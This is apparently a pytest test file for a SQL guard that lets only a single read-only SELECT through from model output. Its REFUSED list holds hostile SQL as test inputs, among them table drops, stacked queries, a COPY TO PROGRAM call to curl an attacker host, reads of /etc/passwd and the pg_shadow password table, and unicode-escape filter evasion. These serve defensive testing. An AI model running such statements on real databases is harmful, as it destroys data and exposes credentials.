"""Model output is untrusted input: only one read-only statement passes the SQL guard; everything else is
refused with a reason the user and the model can read."""

import pytest

from shared.connections.sql_guard import RefusedSQL, check

REFUSED = {
    "DROP TABLE customers": "only SELECT",
    "DELETE FROM orders": "only SELECT",
    "UPDATE orders SET status = 'paid'": "only SELECT",
    "INSERT INTO countries VALUES ('XX', 'Nowhere', 'None')": "only SELECT",
    "TRUNCATE orders": "only SELECT",
    "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE": "only SELECT",
    "CREATE TABLE copy AS SELECT * FROM orders": "only SELECT",
    "ALTER TABLE orders ADD COLUMN x int": "only SELECT",
    "GRANT ALL ON orders TO public": "only SELECT",
    "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d": "data-modifying",
    "WITH u AS (UPDATE orders SET status = 'x' RETURNING id) SELECT count(*) FROM u": "data-modifying",
    "WITH i AS (INSERT INTO countries VALUES ('XX', 'n', 'c') RETURNING 1) SELECT * FROM i": "data-modifying",
    "SELECT * INTO stolen FROM customers": "SELECT ... INTO",
    "COPY orders TO PROGRAM 'curl http://attacker.example'": "only SELECT",
    "COPY (SELECT 1) TO '/tmp/x'": "only SELECT",
    "SELECT 1; DROP TABLE customers": "exactly one statement",
    "SELECT 1; SELECT 2": "exactly one statement",
    "SELECT pg_read_file('/etc/passwd')": "pg_read_file",
    "SELECT * FROM pg_ls_dir('/')": "pg_ls_dir",
    "SELECT pg_catalog.pg_sleep(60)": "pg_sleep",
    'SELECT "pg_sleep"(60)': "pg_sleep",
    "SELECT x FROM t WHERE y IN (SELECT pg_sleep(1))": "pg_sleep",
    "SELECT * FROM dblink('host=10.0.0.1', 'SELECT 1') AS t(a int)": "dblink",
    "SELECT lo_import('/etc/passwd')": "lo_import",
    "SELECT lo_export(1, '/tmp/x')": "lo_export",
    "SELECT set_config('transaction_read_only', 'off', true)": "set_config",
    "SELECT current_setting('data_directory')": "current_setting",
    "SELECT query_to_xml('DELETE FROM orders', true, true, '')": "query_to_xml",
    "SELECT pg_terminate_backend(1)": "pg_terminate_backend",
    "SELECT pg_advisory_lock(1)": "pg_advisory_lock",
    "SELECT nextval('orders_id_seq')": "nextval",
    "SELECT * FROM orders FOR UPDATE": "locking clauses",
    "SELECT * FROM orders LIMIT 1 FOR SHARE": "locking clauses",
    "SELECT (SELECT 1 FROM orders FOR UPDATE)": "locking clauses",
    "SET statement_timeout = 0": "only SELECT",
    "CALL refresh_everything()": "only SELECT",
    "DO $$ BEGIN DELETE FROM orders; END $$": "only SELECT",
    "EXPLAIN ANALYZE DELETE FROM orders": "only SELECT",
    "VALUES (1)": "only SELECT",
    "SELECT * FROM pg_authid": "pg_authid",
    "SELECT usename, passwd FROM pg_catalog.pg_shadow": "pg_shadow",
    'SELECT U&"pg\\005fsleep"(60)': "U&",
    "": "no SQL statement",
    " ; ; ": "no SQL statement",
    "SELEC oops FROM": "cannot be parsed",
}

ALLOWED = [
    "SELECT count(*) FROM orders",
    "SELECT count(*) FROM orders;",
    "SELECT c.country_code, sum(o.total_amount) AS revenue FROM public.orders o "
    "JOIN public.customers c ON c.id = o.customer_id GROUP BY 1 ORDER BY 2 DESC LIMIT 5",
    "WITH monthly AS (SELECT date_trunc('month', ordered_at) AS month, sum(total_amount) AS revenue "
    "FROM orders GROUP BY 1) SELECT * FROM monthly ORDER BY month",
    "WITH RECURSIVE chain(id) AS (SELECT id FROM employees WHERE manager_id IS NULL "
    "UNION ALL SELECT e.id FROM employees e JOIN chain c ON e.manager_id = c.id) SELECT count(*) FROM chain",
    "SELECT name FROM products UNION SELECT company_name FROM suppliers",
    "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY total_amount) FROM orders",
    "SELECT status, count(*) FILTER (WHERE channel = 'web') FROM orders GROUP BY status",
    "SELECT 'DROP TABLE customers; --' AS harmless_text",
    "SELECT 1 -- ; DROP TABLE customers",
]


@pytest.mark.parametrize(("sql", "reason"), REFUSED.items(), ids=list(REFUSED))
def test_everything_but_one_read_only_statement_is_refused_with_the_reason(sql, reason):
    with pytest.raises(RefusedSQL, match=reason.replace("(", r"\(").replace("$", r"\$")):
        check(sql)


@pytest.mark.parametrize("sql", ALLOWED)
def test_read_only_queries_pass_unchanged_but_for_a_trailing_semicolon(sql):
    checked = check(sql)
    assert checked.sql == sql.strip().rstrip(";").rstrip()


def test_the_tables_read_are_named_without_the_ctes():
    checked = check("WITH m AS (SELECT * FROM orders) SELECT * FROM m JOIN public.customers c ON true")
    assert checked.tables == ["orders", "public.customers"]
